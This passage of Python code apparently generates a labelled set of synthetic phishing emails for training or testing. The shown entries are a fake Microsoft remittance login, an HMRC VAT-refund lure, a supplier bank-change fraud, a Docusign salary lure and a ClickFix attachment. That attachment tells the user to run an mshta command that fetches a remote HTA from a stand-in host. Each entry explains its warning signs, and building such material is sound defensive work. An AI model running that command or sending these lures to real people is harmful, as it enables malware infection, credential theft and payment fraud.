Unit 3, Bradley Business Park, Huddersfield HD2 1QW''', 'us-ascii', '7bit', 'quoted-printable', lang='EN-GB'),
               att(_h12, 'text/html', 'Remittance_Advice_PC-88213.html',
                   note='fake Microsoft sign-in form, no script')),
    tech='HTML attachment credential phishing (fake Microsoft 365 login) with remittance lure',
    infra='Look-alike pennine-cycles.co.uk on a Hostinger VPS (Exim), forged "Outlook 16" headers',
    what='"Remittance advice" whose HTML attachment asks the accountant to sign in to view it',
    why='Domain pennine-cycles.co.uk (hyphen) is not the dealer\'s penninecycles.co.uk; sent from a VPS via '
        'a Nigerian client IP, not from Pennine\'s Microsoft 365; the local HTML form posts the password to '
        'secure-remit-docs.com; genuine Pennine remittances are PDFs (business 13).',
    checks={})

# ---------------------------------------------------------------- 13 EN HMRC
def _body13(r):
    rng = __import__('util').rng_for('a13link')
    lk = infra.mailgun_link(rng, 'mg.hmrc-repayments-service.co.uk', '')
    b = [('p', 'Dear EXAMPLE GROUP UK LTD,\n\nVAT registration number: 412 8893 71'),
         ('p', 'Following the processing of your VAT Return for the period 07/26 to 09/26 you are entitled to '
               'a VAT repayment of **£4,816.37**.'),
         ('p', 'We could not pay this amount into the bank account held on our records because the account '
               'details could not be verified. To receive your repayment, sign in to your HMRC business tax '
               'account and confirm the account the repayment should be paid into.'),
         ('btn', 'Confirm repayment details', lk),
         ('p', 'If you do not confirm your details within 5 working days, the repayment may be offset against '
               'future liabilities or held for further checks.'),
         ('p', 'Yours sincerely\n\nVAT Repayments Team\nHM Revenue and Customs')]
    foot = 'This is an automated message. Please do not reply to this email.'
    return alt(None, 'utf-8', html=esp_html(b, '#00703c', 'HMRC', foot, 'Your VAT repayment of £4,816.37',
                                             logo_text='HM Revenue & Customs', lang='en'),
               text=esp_text(b, foot))


add(num=13, lang='en', slug='hmrc-vat-repayment-mailgun', when='2026-11-24 12:48:06',
    route=lambda c: infra.mailgun(c, 'mg.hmrc-repayments-service.co.uk'),
    frm=('HM Revenue & Customs', 'no-reply@hmrc-repayments-service.co.uk'), to=[S['uk_mgr']],
    subject='VAT repayment of £4,816.37 – confirm your business bank details',
    body=_body13,
    tech='Tax-office impersonation (HMRC) for Government Gateway credentials and bank details',
    infra='Mailgun (tracked links), look-alike domain hmrc-repayments-service.co.uk',
    what='"HMRC" says a VAT repayment is waiting and asks to confirm bank details online',
    why='HMRC sends from gov.uk and never emails repayment links; refund bait with a deadline; the tracked '
        'button hides a Government Gateway/bank-detail phishing page.',
    checks={})

# ---------------------------------------------------------------- 14 EN frame supplier bank change
FORMOSA_PI_MID = '<004a01dd684e$8e2f5c10$aa8e1430$@formosa-frames.com.tw>'
FORMOSA_GB = I.gb_iban('CLJU', '041306', '27384910')
add(num=14, lang='en', slug='frame-supplier-bank-change-lookalike', when='2026-11-03 04:55:40',
    route=lambda c: infra.zoho(c, zone='TW'),
    frm=('Kevin Lin', 'kevin.lin@formosa-frames.com'), to=[S['proc']], cc=[S['ap']],
    in_reply_to=FORMOSA_PI_MID,
    subject='RE: PI-2026-0931 - 2027 frame order (AL6061 trekking / e-MTB) - proforma invoice',
    body=alt('''Dear Markus,

Thank you for confirming PO 4500031402 against PI-2026-0931.

Please note that our account with Mega International Commercial Bank is currently under the annual compliance review and temporarily cannot receive incoming foreign remittances until the review is completed (expected end of January 2027).

To avoid delaying the production slot for your January container, kindly remit the 30%% deposit (USD 56,892.00) to the account of our UK trading subsidiary, which handles our European receivables:

Beneficiary: Formosa Alloy Trading Ltd
Bank: Clear Junction Limited, London
IBAN: %s
SWIFT/BIC: CLJUGB21
Reference: PI-2026-0931

All other terms on the proforma invoice remain unchanged. Please send us the MT103 copy once the payment is made so we can release the order to production.

Best regards,
Kevin Lin
Sales Manager - Europe
Formosa Alloy Frames Co., Ltd.
No. 88, Gongye 36th Rd., Xitun Dist., Taichung 40768, Taiwan
Tel: +886-4-2359-7712 ext. 215
-----QUOTE-----
From: Kevin Lin <kevin.lin@formosa-frames.com.tw>
Sent: %s
To: Markus Lehmann <markus.lehmann@example.com>
Subject: PI-2026-0931 - 2027 frame order (AL6061 trekking / e-MTB) - proforma invoice

Dear Markus,

Please find attached our proforma invoice PI-2026-0931 for the 2027 frame order (1,640 frames). Deposit 30%% by T/T, balance against copy of B/L.''' % (I.fmt_iban(FORMOSA_GB), qdate('en', '2026-10-30 17:12')),
             'utf-8', '7bit', 'quoted-printable', lang='EN'),
    tech='Supplier bank-detail change in a hijacked thread, continued from a look-alike domain',
    infra='Zoho Mail on look-alike formosa-frames.com (real supplier: formosa-frames.com.tw)',
    what='"Kevin Lin" asks to pay the 30% frame deposit to a UK "subsidiary" account instead of Taiwan',
    why='.com instead of the supplier\'s .com.tw, hosted on Zoho instead of the supplier\'s own server; '
        'the thread content was stolen (quotes the real proforma); beneficiary name differs from the '
        'supplier, account in another country at a payment institution, "bank review" pretext, sent 04:55 CET. '
        'Genuine counterpart: business 12 (states bank details unchanged).',
    checks={'iban': [FORMOSA_GB]})

# ---------------------------------------------------------------- 15 EN DocuSign abused
_b15 = [('raw', '<tr><td style="padding:24px 32px;background:#1e1e1e;color:#ffffff;font-family:Arial,'
                'sans-serif;font-size:16px;text-align:center">Example Group People Team sent you a document '
                'to review and sign.</td></tr>'),
        ('btn', 'REVIEW DOCUMENT', 'https://na4.docusign.net/Signing/EmailStart.aspx?a=7c4f1b2e-93d6-4c8a-a1e5-5b2d9f0c7e31&etti=24&acct=2d91e0f4-6a7b-4c3d-8e2f-9a1b0c4d5e6f&er=0b7e5a21-3c4d-4e5f-9a8b-7c6d5e4f3a2b'),
        ('p', '**Example Group People Team**\npeople.team.examplegroup@outlook.com'),
        ('p', 'Hi Julia,\n\nPlease review and acknowledge your 2027 compensation adjustment and bonus allocation '
              'before 16 December 2026. If the document does not load, you can also access it via the HR portal: '
              '[[https://examplegroup-hr.sharepoint-docs.net/2027/comp?id=JB-4471|https://examplegroup-hr.sharepoint-docs.net/2027/comp?id=JB-4471]]\n\nThank you,\nPeople Team'),
        ('small', '**Do Not Share This Email**\nThis email contains a secure link to Docusign. Please do not share '
                  'this email, link, or access code with others.\n\n**Alternate Signing Method**\nVisit '
                  'Docusign.com, click \'Access Documents\', and enter the security code: '
                  '7C4F1B2E93D64C8AA1E55B2D9F0C7E314\n\n**About Docusign**\nSign documents electronically in just '
                  'minutes. It\'s safe, secure, and legally binding.\n\n**Questions about the Document?**\nIf you '
                  'need to modify the document or have questions about the details in the document, please reach '
                  'out to the sender by emailing them directly.')]
add(num=15, lang='en', slug='docusign-abused-salary-lure', when='2026-12-14 10:10:27',
    route=lambda c: infra.docusign(c, eu=False),
    frm=('Example Group People Team via Docusign', 'dse_NA4@docusign.net'),
    reply_to=('Example Group People Team', 'people.team.examplegroup@outlook.com'),
    to=[S['salesde']],
    subject='Complete with Docusign: 2027_Compensation_Adjustment_Julia_Becker.pdf',
    body=alt(None, 'utf-8', 'base64', 'base64',
             html=esp_html(_b15, '#ffc820', 'Docusign', 'Powered by Docusign', logo_text='Docusign', lang='en'),
             text=esp_text(_b15, 'Powered by Docusign')),
    tech='Abused genuine e-signature service (Docusign envelope from an attacker account), salary lure',
    infra="Docusign's real NA infrastructure; Reply-To is a free outlook.com address",
    what='"Example Group People Team" envelope about a 2027 salary adjustment, with an extra "HR portal" link',
    why='HR does not use Docusign (payroll letters come through the internal HR portal); the sender account is '
        'an outside free-mail address; the envelope message adds a link to examplegroup-hr.sharepoint-docs.net '
        '(look-alike, not examplegroup.sharepoint.com); salary/bonus lure. Genuine Docusign: business 06.',
    checks={})

# ---------------------------------------------------------------- 16 EN ClickFix
_h16 = ('''<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Lakeland E-Bike Hire - RFQ 2027</title>
<style>body{font-family:Arial,sans-serif;background:#fafafa;margin:0}
.c{max-width:520px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:28px}
.k{font-family:Consolas,monospace;background:#f1f1f1;border:1px solid #ccc;padding:10px;font-size:13px;word-break:break-all}
ol li{margin:8px 0}</style></head><body><div class="c">
<h2 style="margin-top:0">Verify you are human</h2>
<p>The document <b>Lakeland_EBike_Hire_RFQ_2027.pdf</b> is protected. Complete the verification to continue.</p>
<ol><li>Press <b>Windows</b> + <b>R</b></li>
<li>Press <b>CTRL</b> + <b>V</b> (your verification ID is copied automatically)</li>
<li>Press <b>Enter</b></li></ol>
<p>Verification ID:</p>
<div class="k">mshta https://cdn-hostverify.com/rfq/2027 # &#9989; ''I am not a robot - reCAPTCHA Verification ID: 4471''</div>
<p style="font-size:11px;color:#888">Ray ID: 8f2a71c4de19a0b3 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
''').encode('utf-8')
add(num=16, lang='en', slug='clickfix-html-rfq', when='2026-11-27 16:33:50',
    route=lambda c: infra.exchange_online(c, region='EURP191', tenant='consumer', lang='en-GB',
                                          consumer=True, zone='UK'),
    frm=('Emma Hartley', 'emma.hartley.lakeland@outlook.com'), to=[S['uk_mgr']],
    subject='Bike hire fleet 2027 - request for quote (40 e-bikes)',
    body=mixed(alt('''Hello Oliver,

I run Lakeland E-Bike Hire in Windermere. We're replacing our rental fleet for the 2027 season and your trekking range was recommended to us by another operator.

We'd need around 40 e-bikes (mixed frame sizes, 500-625 Wh), plus spare batteries and a service agreement. Our full requirements list and delivery schedule are in the attached order form - it opens in your browser.

Could you let me have a quote with fleet pricing by the end of next week?

Many thanks,
Emma Hartley
Operations Manager
Lakeland E-Bike Hire''', 'utf-8', lang='EN-GB'),
               att(_h16, 'text/html', 'Lakeland_EBike_Hire_RFQ_2027.html',
                   note='ClickFix fake CAPTCHA, command shown as text, no script')),
    tech='ClickFix (fake CAPTCHA tells the user to paste and run a command via Win+R)',
    infra='outlook.com consumer account (Exchange Online consumer), HTML attachment',
    what='Sales enquiry for 40 hire e-bikes with an HTML "order form" that shows a fake human verification',
    why='The attachment instructs the user to press Win+R, paste and Enter - the "verification ID" is an '
        'mshta command fetching a remote HTA from cdn-hostverify.com (malware loader), disguised with a '
        '"I am not a robot" comment; unknown free-mail sender with an attractive order.',
    checks={})
